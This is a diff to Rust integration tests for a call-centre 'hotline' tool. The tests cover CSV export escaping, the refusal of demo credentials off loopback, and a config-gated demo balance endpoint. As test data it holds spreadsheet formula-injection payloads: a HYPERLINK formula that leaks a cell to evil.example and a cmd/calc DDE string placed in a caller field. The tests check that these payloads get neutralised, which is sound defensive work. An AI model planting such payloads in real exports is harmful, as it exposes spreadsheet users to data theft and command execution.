@@ -667,7 +667,8 @@ fn cdr_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
     let note = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
     conn.execute(
         "INSERT INTO cdr (call_id, caller, arrived_at, ended_at, disposition, category, notes)
-         VALUES ('x', '+15550001', 1, 2, 'answered', '@SUM(1+1)', ?1)",
+         VALUES ('x', '+15550001', 1, 2, 'answered', '@SUM(1+1)', ?1),
+                ('y', '+1+cmd|'' /C calc''!A0', 1, 3, 'answered', '', '')",
         [note],
     )
     .unwrap();
@@ -681,14 +682,156 @@ fn cdr_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
         row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""),
         "{row}"
     );
-    assert!(row.contains(",'+15550001,"), "{row}");
+    // A number is no formula: callers in E.164 stay as they are.
+    assert!(row.contains(",+15550001,"), "{row}");
+    assert!(csv.contains(",'+1+cmd|' /C calc'!A0,"), "{csv}");
     assert!(row.contains(",'@SUM(1+1),"), "{row}");
     assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
 
     // JSON lines keep the values as stored.
     let out = run_hotline(&["cdr", "export", "--db", db, "--format", "json"]);
     assert!(out.status.success(), "{}", text(&out.stderr));
-    let json: serde_json::Value = serde_json::from_str(text(&out.stdout).trim()).unwrap();
+    let first = text(&out.stdout)
+        .lines()
+        .next()
+        .unwrap_or_default()
+        .to_owned();
+    let json: serde_json::Value = serde_json::from_str(&first).unwrap();
     assert_eq!(json["notes"], note);
     assert_eq!(json["caller"], "+15550001");
+}
+
+// ---------------------------------------------------------------------------
+// Demo secrets
+
+/// The demo configuration's API tokens, as written in the default file.
+fn demo_tokens() -> String {
+    let text = fs::read_to_string(default_config()).unwrap();
+    let start = text.find("[api.tokens.demo-admin]").unwrap();
+    let end = text.find("[monitor]").unwrap();
+    text[start..end].to_string()
+}
+
+/// A test configuration holding the demo passwords and tokens, with its
+/// HTTP listener on every interface; `extra` is appended.
+fn exposed_demo_config(dir: &Path, http_port: u16, extra: &str) -> PathBuf {
+    let config = TestConfig::new()
+        .http(true)
+        .extra(&format!("[api]\n{}\n{extra}", demo_tokens()));
+    let text = config.render(free_port(), Some(http_port)).replace(
+        &format!("listen = \"127.0.0.1:{http_port}\""),
+        &format!("listen = \"0.0.0.0:{http_port}\""),
+    );
+    assert!(text.contains("0.0.0.0"), "{text}");
+    let path = dir.join("hotline.toml");
+    fs::write(&path, text).unwrap();
+    path
+}
+
+#[test]
+fn serve_refuses_demo_secrets_off_loopback_naming_every_key() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = exposed_demo_config(dir.path(), free_port(), "");
+    for command in ["serve", "check-config"] {
+        let out = run_hotline(&[command, "--config", path.to_str().unwrap()]);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
+        for key in [
+            "http.listen",
+            "agents.1001.password",
+            "agents.1004.password",
+            "api.tokens.demo-admin.sha256",
+            "api.tokens.demo-supervisor.sha256",
+            "api.tokens.demo-agent-1001.sha256",
+            "allow_demo_credentials",
+        ] {
+            assert!(stderr.contains(key), "{command}: {key} not named: {stderr}");
+        }
+    }
+    // The same secrets on loopback only: the demo runs.
+    let out = run_hotline(&[
+        "check-config",
+        "--config",
+        default_config().to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    // Off loopback with the secrets replaced by the environment: it runs.
+    let mut cmd = hotline_command();
+    cmd.args(["check-config", "--config", path.to_str().unwrap()]);
+    for id in 1001..=1004 {
+        cmd.env(
+            format!("HOTLINE__AGENTS__{id}__PASSWORD"),
+            format!("own-{id}-secret"),
+        );
+    }
+    let stripped = fs::read_to_string(&path)
+        .unwrap()
+        .replace(&demo_tokens(), "");
+    fs::write(&path, stripped).unwrap();
+    let out = cmd.output().unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+}
+
+#[test]
+fn serve_runs_demo_secrets_off_loopback_when_explicitly_allowed() {
+    let dir = tempfile::tempdir().unwrap();
+    let http_port = free_port();
+    let path = exposed_demo_config(
+        dir.path(),
+        http_port,
+        "[demo]\nallow_demo_credentials = true\n",
+    );
+    let mut child = hotline_command()
+        .args(["serve", "--config", path.to_str().unwrap()])
+        .current_dir(dir.path())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(15);
+    let mut up = false;
+    while std::time::Instant::now() < deadline {
+        if let Some(status) = child.try_wait().unwrap() {
+            panic!("hotline exited: {status}");
+        }
+        if std::net::TcpStream::connect(("127.0.0.1", http_port)).is_ok() {
+            up = true;
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let health = up.then(|| http_get(http_port, "/healthz"));
+    // Stops the process this test started, by its PID.
+    let _ = child.kill();
+    let _ = child.wait();
+    assert_eq!(health.as_deref(), Some("ok\n"));
+}
+
+#[test]
+fn the_demo_balance_service_is_served_only_when_enabled() {
+    let server = Server::start(TestConfig::new().http(true));
+    let port = server.http_port.unwrap();
+    let (status, _) = http_request(
+        port,
+        "GET",
+        "/demo/balance?account=1001&pin=1234",
+        None,
+        None,
+    );
+    assert_eq!(status, 404, "served without [demo] balance_service");
+    let server = Server::start(
+        TestConfig::new()
+            .http(true)
+            .extra("[demo]\nbalance_service = true\n"),
+    );
+    let port = server.http_port.unwrap();
+    let (status, body) = http_request(
+        port,
+        "GET",
+        "/demo/balance?account=1001&pin=1234",
+        None,
+        None,
+    );
+    assert_eq!(status, 200, "{body}");
+    assert!(body.contains("250.75"), "{body}");
 }
